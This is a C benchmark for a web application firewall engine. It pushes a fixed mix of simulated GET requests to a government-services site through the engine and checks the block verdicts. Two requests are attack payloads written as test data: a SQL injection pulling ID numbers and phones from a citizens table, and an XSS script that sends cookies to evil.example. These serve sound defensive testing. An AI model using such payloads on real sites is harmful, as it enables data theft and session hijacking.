/*
 * engine_bench.c — librampart micro-benchmark: transactions per second on one
 * thread, without nginx or sockets in the way.
 *
 *   engine_bench [POLICY [SECONDS]]     (defaults: policies/default.policy, 3)
 *
 * A fixed mix of realistic GET requests (browser headers, cookies, query
 * arguments, some Chinese text, ~5% attacks) goes through the full
 * transaction API, exactly the calls the nginx module makes for a GET:
 * new → connection → request line → headers → headers_done → request_end →
 * response status/headers → headers_done → response_end → event → free.
 * Prints "engine/tps N" (read by bench/run.sh) and one JSON line. The verdicts
 * are checked as it goes: an attack let through or a benign request blocked
 * is counted and reported, since a fast engine that stops inspecting is no
 * result at all.
 */
#if !defined(_GNU_SOURCE) && !defined(_POSIX_C_SOURCE)
#define _POSIX_C_SOURCE 200809L /* clock_gettime under -std=c11 */
#endif
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "rampart/rampart.h"

typedef struct {
    const char *uri;     /* raw request target, as a client sends it */
    const char *cookie;  /* NULL: no Cookie header */
    const char *referer; /* NULL: no Referer header */
    int attack;          /* 1: the engine must block it in block mode */
} request_t;

/* 40 requests, 2 of them attacks (5%). URL-encoded Chinese where a browser
 * would send it: 社保查询, 公积金, 居住证办理, 上海市浦东新区, 张三. */
static const request_t REQUESTS[] = {
    {"/", "JSESSIONID=6F1C2B9A0D3E4F5A8B7C6D5E4F3A2B1C; lang=zh-CN", NULL, 0},
    {"/search?q=%E7%A4%BE%E4%BF%9D%E6%9F%A5%E8%AF%A2&page=2&sort=date&lang=zh-CN",
     "JSESSIONID=6F1C2B9A0D3E4F5A8B7C6D5E4F3A2B1C; lang=zh-CN; _ga=GA1.3.1849203751.1714521600",
     "https://zwfw.example.gov.cn/index.html", 0},
    {"/services", "JSESSIONID=6F1C2B9A0D3E4F5A8B7C6D5E4F3A2B1C; lang=zh-CN",
     "https://zwfw.example.gov.cn/", 0},
    {"/api/citizens?limit=20&offset=40", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMDAxIn0.c2ln",
     "https://zwfw.example.gov.cn/admin/citizens", 0},
    {"/api/citizens/1042", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMDAxIn0.c2ln",
     "https://zwfw.example.gov.cn/admin/citizens?page=3", 0},
    {"/static/js/app.8f3a2c.js", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/static/css/main.1b2c3d.css", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/static/img/logo.png", NULL, "https://zwfw.example.gov.cn/", 0},
    {"/search?q=%E5%85%AC%E7%A7%AF%E9%87%91&type=service", "lang=zh-CN; theme=light",
     "https://zwfw.example.gov.cn/services", 0},
    {"/search?q=%E5%B1%85%E4%BD%8F%E8%AF%81%E5%8A%9E%E7%90%86&district=310115",
     "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; lang=zh-CN",
     "https://zwfw.example.gov.cn/search?q=%E5%B1%85%E4%BD%8F%E8%AF%81", 0},
    {"/apply?service=%E5%85%AC%E7%A7%AF%E9%87%91%E6%8F%90%E5%8F%96",
     "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; lang=zh-CN", "https://zwfw.example.gov.cn/services",
     0},
    {"/upload", "JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9", "https://zwfw.example.gov.cn/apply", 0},
    {"/news/2024/06/notice-0615.html?from=home", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/api/services?category=social&sort=popular&page=1&size=10", "lang=zh-CN",
     "https://zwfw.example.gov.cn/", 0},
    {"/search?q=%E4%B8%8A%E6%B5%B7%E5%B8%82%E6%B5%A6%E4%B8%9C%E6%96%B0%E5%8C%BA&page=1",
     "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/api/citizens?name=%E5%BC%A0%E4%B8%89&limit=5", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2ln",
     NULL, 0},
    {"/healthz", NULL, NULL, 0},
    {"/favicon.ico", "lang=zh-CN", NULL, 0},
    {"/search?q=O%27Brien&page=1", "lang=en", "https://zwfw.example.gov.cn/", 0},
    {"/search?q=how+to+renew+my+ID+card%3F&lang=en", "lang=en", "https://zwfw.example.gov.cn/", 0},
    {"/api/appointments?date=2024-06-15&slot=09%3A30-10%3A00", "JSESSIONID=77AA00BB11CC22DD33EE44FF",
     "https://zwfw.example.gov.cn/appointments", 0},
    {"/guide/residence-permit?section=materials", "lang=zh-CN", "https://zwfw.example.gov.cn/services", 0},
    {"/api/notices?since=1718409600&limit=20", NULL, "https://zwfw.example.gov.cn/", 0},
    {"/search?q=%E5%8C%BB%E4%BF%9D+%E6%8A%A5%E9%94%80+%E6%B5%81%E7%A8%8B", "lang=zh-CN",
     "https://zwfw.example.gov.cn/", 0},
    {"/download/form-2024-06.pdf?v=3", "lang=zh-CN", "https://zwfw.example.gov.cn/guide", 0},
    {"/api/citizens/7?fields=name,district", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2ln",
     NULL, 0},
    {"/search?q=select+a+service&page=1", "lang=en", "https://zwfw.example.gov.cn/", 0},
    {"/login?next=%2Fapply%3Fservice%3D12", "lang=zh-CN", "https://zwfw.example.gov.cn/apply", 0},
    {"/search?q=union+bank+of+china+branch+hours", "lang=en", "https://zwfw.example.gov.cn/", 0},
    {"/map?lat=31.2304&lng=121.4737&zoom=14", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/", "JSESSIONID=1234567890ABCDEF1234567890ABCDEF; lang=zh-CN; consent=1", NULL, 0},
    {"/services?dept=%E4%BA%BA%E7%A4%BE%E5%B1%80", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/api/citizens?limit=100", "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMDAxIn0.c2ln", NULL, 0},
    {"/search?q=2024%E5%B9%B4%E7%A4%BE%E4%BF%9D%E7%BC%B4%E8%B4%B9%E5%9F%BA%E6%95%B0&page=1",
     "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/static/fonts/noto-sans-sc.woff2", NULL, "https://zwfw.example.gov.cn/static/css/main.css", 0},
    {"/feedback?topic=website&rating=5", "lang=zh-CN", "https://zwfw.example.gov.cn/", 0},
    {"/search?q=%E9%80%80%E4%BC%91+%E5%85%BB%E8%80%81%E9%87%91", "lang=zh-CN",
     "https://zwfw.example.gov.cn/", 0},
    {"/api/services/12/materials", "lang=zh-CN", "https://zwfw.example.gov.cn/apply", 0},
    /* the attacks */
    {"/search?q=1%27%20UNION%20SELECT%20idNumber%2Cphone%20FROM%20citizens--%20-&page=1",
     "lang=zh-CN", NULL, 1},
    {"/search?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2B"
     "document.cookie%3C%2Fscript%3E",
     "lang=zh-CN", "https://zwfw.example.gov.cn/", 1},
};
#define NREQUESTS (sizeof REQUESTS / sizeof REQUESTS[0])

static const char UA[] = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                         "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
static const char ACCEPT[] = "text/html,application/xhtml+xml,application/xml;q=0.9,"
                             "image/avif,image/webp,*/*;q=0.8";

typedef struct {
    unsigned long long transactions;
    unsigned long long attacks;
    unsigned long long blocked;
    unsigned long long missed_attacks;   /* attack allowed */
    unsigned long long false_positives;  /* benign request blocked */
    unsigned long long errors;           /* RP_ERROR / RP_NOMEM / RP_LIMIT */
    unsigned long long event_bytes;
} stats_t;

static double now_seconds(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

#define HDR(tx, n, v) rp_tx_request_header((tx), (n), sizeof(n) - 1, (v), strlen(v))
#define RHDR(tx, n, v) rp_tx_response_header((tx), (n), sizeof(n) - 1, (v), strlen(v))

/* Note a status from a request step; returns 1 when the transaction is blocked. */
static int request_step(rp_status_t st, stats_t *s)
{
    if (st == RP_BLOCK)
        return 1;
    if (st != RP_OK && st != RP_DECLINED && st != RP_AGAIN)
        s->errors++;
    return 0;
}

static void run_one(rp_policy_t *policy, const request_t *r, unsigned seq, stats_t *s)
{
    rp_tx_t *tx = rp_tx_new(policy);
    if (tx == NULL) {
        s->errors++;
        return;
    }
    rp_tx_set_app(tx, "bench", 5);
    rp_tx_set_mode(tx, RP_MODE_BLOCK); /* as `rampart_mode block` in bench/run.sh */
    int blocked = 0;
    blocked |= request_step(
        rp_tx_connection(tx, "192.0.2.44", 10, (uint16_t)(40000 + seq % 20000), "127.0.0.1", 9,
                                   8080), s);
    blocked |= request_step(rp_tx_request_line(tx, "GET", 3, r->uri, strlen(r->uri), "HTTP/1.1", 8),
                            s);
    if (!blocked) {
        blocked |= request_step(HDR(tx, "Host", "zwfw.example.gov.cn"), s);
        blocked |= request_step(HDR(tx, "Connection", "keep-alive"), s);
        blocked |= request_step(HDR(tx, "User-Agent", UA), s);
        blocked |= request_step(HDR(tx, "Accept", ACCEPT), s);
        blocked |= request_step(HDR(tx, "Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"), s);
        blocked |= request_step(HDR(tx, "Accept-Encoding", "gzip, deflate, br"), s);
        if (r->cookie != NULL)
            blocked |= request_step(HDR(tx, "Cookie", r->cookie), s);
        if (r->referer != NULL)
            blocked |= request_step(HDR(tx, "Referer", r->referer), s);
        blocked |= request_step(HDR(tx, "Upgrade-Insecure-Requests", "1"), s);
    }
    if (!blocked)
        blocked |= request_step(rp_tx_request_headers_done(tx), s);
    if (!blocked)
        blocked |= request_step(rp_tx_request_end(tx), s);

    /* The response: the upstream's page, or the gateway's own 403. */
    rp_tx_response_status(tx, blocked ? 403 : 200);
    RHDR(tx, "Content-Type", "text/html; charset=utf-8");
    RHDR(tx, "Content-Length", blocked ? "153" : "4222");
    RHDR(tx, "Cache-Control", "no-cache");
    RHDR(tx, "X-Request-ID", "0d5c7a1e9b3f4e2a8c6d0f1b2a3c4d5e");
    rp_tx_response_headers_done(tx);
    const void *out = NULL;
    size_t out_len = 0;
    rp_status_t st = rp_tx_response_end(tx, &out, &out_len);
    if (st == RP_ERROR || st == RP_NOMEM)
        s->errors++;

    size_t ev_len = 0;
    const char *ev = rp_tx_event(tx, &ev_len);
    if (ev != NULL)
        s->event_bytes += ev_len;

    s->transactions++;
    s->attacks += (unsigned long long)r->attack;
    if (blocked) {
        s->blocked++;
        if (!r->attack)
            s->false_positives++;
    } else if (r->attack) {
        s->missed_attacks++;
    }
    rp_tx_free(tx);
}

static void print_json_string(const char *str)
{
    putchar('"');
    for (const unsigned char *p = (const unsigned char *)(str ? str : ""); *p; p++) {
        if (*p == '"' || *p == '\\')
            printf("\\%c", *p);
        else if (*p < 0x20)
            printf("\\u%04x", *p);
        else
            putchar(*p);
    }
    putchar('"');
}

/* policies/default.policy next to this source file's bench/ directory, so
 * the binary finds it from any working directory of a build tree. */
static const char *default_policy_path(char *buf, size_t size)
{
    const char *file = __FILE__;
    const char *slash = strrchr(file, '/');
    if (slash != NULL && slash - file >= 5 && strncmp(slash - 5, "bench", 5) == 0) {
        int n = snprintf(buf, size, "%.*spolicies/default.policy", (int)(slash - 5 - file), file);
        if (n > 0 && (size_t)n < size)
            return buf;
    }
    return "policies/default.policy";
}

int main(int argc, char **argv)
{
    char pathbuf[4096];
    const char *path = argc > 1 ? argv[1] : default_policy_path(pathbuf, sizeof pathbuf);
    double seconds = 3.0;
    if (argc > 2) {
        char *end = NULL;
        errno = 0;
        seconds = strtod(argv[2], &end);
        if (errno != 0 || end == argv[2] || *end != '\0' || seconds <= 0 || seconds > 3600) {
            fprintf(stderr, "engine_bench: SECONDS must be a number in (0, 3600]\n");
            return 2;
        }
    }

    rp_error_t err;
    memset(&err, 0, sizeof err);
    rp_policy_t *policy = rp_policy_load(path, &err);
    if (policy == NULL) {
        if (err.line)
            fprintf(stderr, "engine_bench: cannot load policy %s: %s:%u: %s\n", path, err.file,
                    err.line, err.reason);
        else
            fprintf(stderr, "engine_bench: cannot load policy %s: %s\n", path, err.reason);
        return 1;
    }
    rp_mode_t file_mode = rp_policy_mode(policy); /* reported; transactions run in block mode */

    stats_t s;
    memset(&s, 0, sizeof s);
    unsigned seq = 0;
    /* Warm-up: one pass over the mix (first-touch page faults, caches). */
    for (size_t i = 0; i < NREQUESTS; i++)
        run_one(policy, &REQUESTS[i], seq++, &s);
    memset(&s, 0, sizeof s);

    double start = now_seconds(), elapsed = 0;
    do {
        for (int batch = 0; batch < 1000; batch++) {
            run_one(policy, &REQUESTS[seq % NREQUESTS], seq, &s);
            seq++;
        }
        elapsed = now_seconds() - start;
    } while (elapsed < seconds);

    double tps = (double)s.transactions / elapsed;
    printf("engine/tps %.0f\n", tps);
    printf("{\"engine/tps\": %.0f, \"transactions\": %llu, \"seconds\": %.3f, "
           "\"attacks\": %llu, \"blocked\": %llu, \"missed_attacks\": %llu, "
           "\"false_positives\": %llu, \"errors\": %llu, \"event_bytes\": %llu, "
           "\"policy_version\": ",
           tps, s.transactions, elapsed, s.attacks, s.blocked, s.missed_attacks, s.false_positives,
           s.errors, s.event_bytes);
    print_json_string(rp_policy_version(policy));
    printf(", \"policy_mode\": \"%s\"}\n",
           file_mode == RP_MODE_BLOCK ? "block" : file_mode == RP_MODE_DETECT ? "detect" : "off");
    if (s.missed_attacks || s.false_positives || s.errors)
        fprintf(stderr,
                "engine_bench: warning: %llu attacks allowed, %llu benign requests blocked, "
                "%llu errors — check the policy and detectors\n",
                s.missed_attacks, s.false_positives, s.errors);
    rp_policy_unref(policy);
    return 0;
}
